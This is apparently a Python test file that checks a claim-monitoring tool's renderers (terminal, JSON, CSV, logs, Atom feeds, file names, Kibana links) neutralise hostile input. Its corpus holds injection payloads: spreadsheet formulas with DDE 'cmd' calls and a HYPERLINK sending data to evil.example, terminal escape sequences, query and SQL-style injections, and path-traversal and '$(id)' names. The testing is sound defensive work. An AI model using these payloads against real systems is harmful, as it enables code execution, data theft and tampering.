"""Other people's words do no harm on any way out; the messages are in tests/unit/notifications/test_hostile.py.

One corpus goes through every renderer: what is markup, a command, a formula, a query, a name or a line of its own to
the program that reads it must come out as text.
"""

from __future__ import annotations

import csv
import io
import json
import logging
import re
import unicodedata
from collections.abc import Callable, Iterator
from datetime import UTC, datetime
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest
import structlog
from hypothesis import given
from hypothesis import strategies as st
from lxml import etree
from rich.console import Console

from claimwatch.errors import UserError
from claimwatch.logs import configure
from claimwatch.notifying import atom
from claimwatch.output import HIDDEN, Output, complain, plain
from claimwatch.queries import Hit
from claimwatch.screen import Screen
from claimwatch.screens.claims import drawn
from claimwatch.settings import Settings
from claimwatch.spreadsheet import FORMULA, lines
from connectors.elasticsearch import documents, query
from connectors.elasticsearch.documents import index_of
from connectors.kibana.kql import Is, parse
from connectors.notifications.links import kibana_link, kql_string, rison
from connectors.notifications.notices import Links, Notice
from connectors.notifications.terminal import Terminal
from schemas import ids
from tests.unit.elasticsearch import made
from tests.unit.notifications import hostile

FORMULAS = (
    "=1+1",
    '=HYPERLINK("https://evil.example?x="&A1,"the ministry")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3+cmd|' /C calc'!D2",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    " =1+1",
    "\u00a0=1+1",
    "\u3000@x",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    '"=1+1',
    "a;b,c\td",
    'x",=1+1,"y',
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u202e=1+1",
    "\x00=1+1",
    " \u2003=1+1",
)

TERMINALS = (
    "\x1b]0;title\x07",
    "\x1b[6n",
    "\x1bP0;1|17/ab\x9c",
    "\x9b2J",
    "\x9d0;title\x9c",
    "\x1b[?1049h",
    "a\rb",
    "a\x08\x08b",
    "[bold red]markup of rich[/]",
    "[link=https://evil.example]the ministry[/link]",
    ":skull:",
    "\x1b",
    "\u2028\u2029",
    "\u200f\u202bover\u202c",
)

QUERIES = (
    '" OR *:* OR "',
    "*:*",
    "speaker:* AND NOT (x",
    "\\",
    '\\"',
    "claim_id : *",
    "/.*/",
    "{! lucene}",
    "') or 1=1 --",
    "!(x)",
    "'!'",
    "(query:'x')",
    "&_a=(query:x)",
    "?_g=()#/x",
    "{{value}}",
)

NAMES = (
    "../../etc/passwd",
    "..",
    ".",
    "/etc/passwd",
    "C:\\x",
    "con.txt",
    "a/b",
    "a\x00b",
    "~root",
    "-rf",
    "x" * 300,
    "$(id)",
    "*",
    " ",
)

LOGS = (
    "x\n2026-01-01T00:00:00Z [info     ] all is well part=notify",
    'x", "level": "info", "event": "all is well',
    "%(password)s %s %d %n",
    "{event} {0.__class__}",
    "x level=critical part=other",
    "x\u2028y",
    "x\x85y",
)

CORPUS = tuple(dict.fromkeys((*hostile.CORPUS, *FORMULAS, *TERMINALS, *QUERIES, *NAMES, *LOGS)))
SHORT = tuple(each for each in CORPUS if len(each) < 1_000)
WORDS = st.one_of(
    st.sampled_from(SHORT), st.text(max_size=80), st.lists(st.sampled_from(SHORT), max_size=3).map("".join)
)
LINKS = Links(board="https://board.example", kibana="https://kibana.example/s/desk")
NOW = datetime(2026, 4, 1, 8, 0, tzinfo=UTC)


def obeyed(text: str) -> set[str]:
    """Characters that a terminal or an editor would act on, but for the ends of lines."""
    return {char for char in text if char != "\n" and unicodedata.category(char) in HIDDEN}


def on_screen(words: str, *, as_json: bool) -> str:
    out = io.StringIO()
    console = Console(file=out, width=100, markup=False, highlight=False, emoji=False, no_color=True)
    screen = Screen(console, as_json=as_json)
    screen.say([words])
    screen.on_alert(hostile.alert(words))
    return out.getvalue()


def as_claim(words: str) -> str:
    out = io.StringIO()
    said = made.statement(sentence=words, content=words, outlet=words, origin_name=words, url=words)
    claim = made.claim(text=words, headline=words, origins=(words,), statements=(said,), changed=(said,))
    found = documents.claim(claim).body
    rows = drawn(found, [each.body for each in documents.statements(claim)], 100)
    console = Console(file=out, width=100, markup=False, highlight=False, emoji=False, no_color=True)
    for row in rows:
        console.print(row, soft_wrap=True)
    return out.getvalue()


def at_terminal(words: str) -> str:
    out = io.StringIO()
    Terminal(out, links=LINKS).send(Notice(words, words, hostile.alert(words)))
    return out.getvalue()


TERMINAL_FORMS: dict[str, Callable[[str], str]] = {
    "the lines of up": lambda words: on_screen(words, as_json=False),
    "the JSON of up": lambda words: on_screen(words, as_json=True),
    "a claim": as_claim,
    "the terminal's channel": at_terminal,
}


@pytest.mark.parametrize("form", TERMINAL_FORMS)
def test_nothing_that_a_terminal_obeys_is_printed(form: str):
    for words in filter(obeyed, SHORT):
        printed = TERMINAL_FORMS[form](words)
        assert printed
        assert not obeyed(printed), words


@pytest.mark.parametrize("form", TERMINAL_FORMS)
def test_what_rich_takes_for_markup_is_printed_as_it_stands(form: str):
    printed = TERMINAL_FORMS[form]("[bold red]x[/] :skull: [link=y]z[/link]")
    assert "[bold red]x[/]" in printed or "［bold red］x［/］" in printed
    assert ":skull:" in printed


def test_tables_errors_and_json_of_commands_print_nothing_that_a_terminal_obeys(capsys: pytest.CaptureFixture[str]):
    for words in SHORT:
        for as_json in (False, True):
            Output(as_json).record({"words": words}, [words])
            complain(UserError(words, where=words, do=words), as_json)
        Output(True).table([made.alert(claim_text=words)], {}, nothing="")
    Output(False).table([{"x": words} for words in SHORT], {"x": SHORT}, nothing="")
    out, err = capsys.readouterr()
    assert not obeyed(out + err)


@given(WORDS)
def test_json_says_the_same_to_a_program_however_it_is_written(words: str):
    from claimwatch.output import inert

    assert json.loads(inert(json.dumps({"words": words}, ensure_ascii=False))) == {"words": words}
    assert not obeyed(inert(json.dumps(words, ensure_ascii=False)))
    assert "\n" not in plain(words)
    assert not obeyed(plain(words))


def test_a_spreadsheet_gets_no_formula_and_no_cell_or_line_of_another():
    for words in SHORT:
        document = {"headline": words, "speaker": words, "outlet": [words, words], "url": words, "status": words}
        written = "".join(lines([Hit("claims", words or "c", document)]))
        assert not obeyed(written.replace("\r\n", "\n"))
        heading, row = csv.reader(io.StringIO(written, newline=""))
        assert len(row) == len(heading)
        for cell in row:
            bare = cell.lstrip(" \u00a0\u2003\u3000\ufffd")  # what programs are known to leave out, and more
            assert not bare.startswith(FORMULA), words


@pytest.fixture
def restored() -> Iterator[None]:
    root, before = logging.getLogger(), (list(logging.getLogger().handlers), logging.getLogger().level)
    yield
    root.handlers, root.level = before
    structlog.reset_defaults()
    structlog.contextvars.clear_contextvars()


@pytest.mark.parametrize("form", ["console", "json"])
def test_a_log_has_one_line_for_each_event_whatever_is_in_it(form: str, restored: None):
    out = io.StringIO()
    configure(Settings(log_format=form), "test", out)
    ours, theirs = structlog.get_logger("ours"), logging.getLogger("a.library")
    for number, words in enumerate(SHORT):
        ours.warning("seen", words=words, many=[words], record={words: words}, number=number)
        theirs.warning("a page said %s", words)
    written = out.getvalue()
    assert not obeyed(written)
    assert len(written.splitlines()) == len(written.split("\n")) - 1 == 2 * len(SHORT)
    if form == "json":
        found = [json.loads(line) for line in written.splitlines()]
        assert {each["level"] for each in found} == {"warning"}
        assert [each["words"] for each in found[::2]] == list(SHORT)


def test_the_lines_of_an_exception_cannot_be_taken_for_events(restored: None):
    out = io.StringIO()
    configure(Settings(log_format="console"), "test", out)
    for words in SHORT:
        try:
            raise ValueError(words)
        except ValueError:
            structlog.get_logger("ours").exception("failed")
    assert not obeyed(out.getvalue())
    lines_of = [line for line in out.getvalue().split("\n") if line and not line.startswith("    ")]
    assert len(lines_of) == len(SHORT)


class Tags(HTMLParser):
    """The tags and attributes that a reader's HTML parser finds."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.found: set[tuple[str, tuple[str, ...]]] = set()
        self.links: list[str] = []
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.add((tag, tuple(name for name, _ in attrs)))
        self.links += [value or "" for name, value in attrs if name == "href"]


def test_an_atom_feed_has_no_elements_or_markup_of_another():
    for words in SHORT:
        raw = atom.feed(words, [hostile.alert(words)], LINKS)
        root = etree.fromstring(raw)
        names = {etree.QName(each).localname for each in root.iter()}
        assert names <= set("feed id title updated author name generator entry published link category content".split())
        html = Tags(root.find(".//{*}content").text)
        assert {tag for tag, _ in html.found} <= {"p", "a", "strong"}
        assert {each for _, each in html.found} <= {(), ("href",)}
        assert all(
            re.match("https?://", each) for each in [*html.links, *(e.get("href") for e in root.iter("{*}link"))]
        )


def test_the_name_of_a_watch_is_a_file_s_only_in_a_safe_form_and_another_for_each(tmp_path: Path):
    names = [atom.file_name(words) for words in CORPUS]
    assert all(re.fullmatch(r"[a-z0-9][a-z0-9-]{0,75}\.atom", name) for name in names)
    assert len(set(names)) == len(CORPUS)
    assert all((tmp_path / name).resolve().parent == tmp_path.resolve() for name in names)


@given(WORDS)
def test_a_value_in_a_link_to_kibana_is_one_value_of_its_query(words: str):
    found = parse(f"claim_id : {kql_string(words)}")
    assert isinstance(found, Is)
    assert found.value.text == words
    written = rison({"query": words})
    inner = written.removeprefix("(query:").removesuffix(")")
    assert inner == words or re.fullmatch(r"'(?:[^'!]|!!|!')*'", inner, re.DOTALL)
    link = kibana_link(hostile.alert(words), LINKS)
    assert re.fullmatch(r"(https://kibana\.example/s/desk/app/discover#/[!-~]*)?", link)


def test_what_a_record_says_becomes_no_query_but_a_value_of_one():
    """Only what a person typed is read as a query; a record's words stand where Elasticsearch takes a value."""
    for words in SHORT:
        like = query.more_like({"title": words, "text": words, "article_id": words})
        assert [*_keys(like, "query_string"), *_keys(like, "script"), *_keys(like, "regexp")] == []
        assert json.loads(json.dumps(like)) == like
        assert like["bool"]["must"][0]["more_like_this"]["like"] == [each for each in (words, words) if each]


def test_ids_and_the_names_of_indices_hold_no_words():
    for words in CORPUS:
        assert re.fullmatch(r"[a-z]?[0-9a-f]{32}", ids.digest("test", words)) or len(ids.digest("test", words)) == 64
        article = made.article(url="https://post.example/x", title=words, outlet=words, feed_url=words)
        document = documents.article(made.extraction().model_copy(update={"article": article}), 1)
        assert re.fullmatch(r"news-articles-[0-9.-]+", document.index)
    assert re.fullmatch(r"[a-z-]+[0-9-]*", index_of("claims"))


def _keys(value: Any, wanted: str) -> Iterator[str]:
    """The places of a key in a request."""
    if isinstance(value, dict):
        for key, each in value.items():
            yield from [key] if key == wanted else _keys(each, wanted)
    elif isinstance(value, list):
        for each in value:
            yield from _keys(each, wanted)
